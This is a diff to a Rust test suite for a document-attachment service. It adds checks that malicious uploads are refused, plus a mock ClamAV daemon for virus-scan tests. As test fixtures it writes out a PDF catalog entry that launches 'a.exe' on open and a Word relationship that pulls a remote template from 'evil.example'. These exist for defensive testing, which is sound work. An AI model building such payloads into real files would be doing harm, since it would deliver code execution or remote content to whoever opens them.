@@ -3,6 +3,7 @@
 use std::{
     io::{Read as _, Write as _},
     net::TcpStream,
+    os::unix::net::UnixListener,
     path::{Path, PathBuf},
     thread,
     time::{Duration, SystemTime, UNIX_EPOCH},
@@ -15,7 +16,7 @@ use dengji::usecases::attachments::{
 use serde_json::{Value, json};
 use zip::{ZipWriter, write::SimpleFileOptions};
 
-use crate::support::{App, Client, Person, Reply, attach_text, both, complete_contract, papers::small_pdf};
+use crate::support::{App, Backend, Client, Person, Reply, attach_text, both, complete_contract, papers::small_pdf};
 
 /// Every file in the folder of the files, by path below it.
 fn files(app: &App) -> Vec<PathBuf> {
@@ -305,6 +306,13 @@ both! {
         assert_eq!(tried("bomb.docx", &bomb), "file_bomb");
         assert_eq!(tried("bomb.xlsx", &bomb), "file_bomb");
         assert_eq!(tried("macro.docx", &docx("word/vbaProject.bin", b"x")), "file_macro");
+        let acting = small_pdf(1);
+        let acting = String::from_utf8(acting).unwrap().replace("/Type /Catalog", "/Type /Catalog /OpenAction << /S /Launch /F (a.exe) >>");
+        assert_eq!(tried("acts.pdf", acting.as_bytes()), "file_active");
+        let template = br#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"
+            Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+            Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>"#;
+        assert_eq!(tried("template.docx", &docx("word/_rels/settings.xml.rels", template)), "file_active");
         assert_eq!(tried("cut.docx", &docx("a.xml", b"x")[..60]), "file_damaged");
         assert_eq!(files(app), Vec::<PathBuf>::new());
         assert_eq!(registrar.get(&path(&draft)).expect(200)["version"], 1);
@@ -441,4 +449,57 @@ both! {
         }
         assert_eq!(files(app).len(), 1);
     }
+}
+
+/// What clamd is to say to each file that it is sent, in turn.
+fn clamd(socket: &Path, says: &[&'static [u8]]) -> thread::JoinHandle<()> {
+    let listener = UnixListener::bind(socket).unwrap();
+    let says = says.to_vec();
+    thread::spawn(move || {
+        for said in says {
+            let (mut line, _) = listener.accept().unwrap();
+            let mut command = [0; 10];
+            line.read_exact(&mut command).unwrap();
+            assert_eq!(&command, b"zINSTREAM\0");
+            loop {
+                let mut length = [0; 4];
+                line.read_exact(&mut length).unwrap();
+                let mut piece = vec![0; u32::from_be_bytes(length) as usize];
+                if piece.is_empty() {
+                    break;
+                }
+                line.read_exact(&mut piece).unwrap();
+            }
+            line.write_all(said).unwrap();
+        }
+    })
+}
+
+#[test]
+fn what_the_virus_scanner_does_not_let_through_is_not_kept() {
+    let folder = tempfile::tempdir().unwrap();
+    let socket = folder.path().join("clamd.ctl");
+    let app = App::start_with(Backend::Sqlite, "2026-06-15T12:00:00+08:00", |settings| {
+        settings.files.virus_scanner = socket.display().to_string();
+    });
+    let registrar = app.person(Person::Registrar);
+    let draft = bare(&registrar, 1);
+    let attach = |n| registrar.attach_at(&path(&draft), 1, "other", "附图.pdf", &small_pdf(n));
+    assert_eq!(code(&attach(1)), "scanner_unavailable");
+    let scanner = clamd(
+        &socket,
+        &[
+            b"stream: Eicar-Test-Signature FOUND\0",
+            b"INSTREAM size limit exceeded. ERROR\0",
+            b"stream: OK\0",
+        ],
+    );
+    let infected = attach(2);
+    assert_eq!(code(&infected), "file_infected");
+    assert!(infected.text.contains("Eicar-Test-Signature"), "{}", infected.text);
+    assert_eq!(code(&attach(3)), "scanner_unavailable");
+    assert_eq!(files(&app), Vec::<PathBuf>::new());
+    attach(4).expect(201);
+    scanner.join().unwrap();
+    assert_eq!((files(&app).len(), listed(&registrar, &draft).len()), (1, 1));
 }
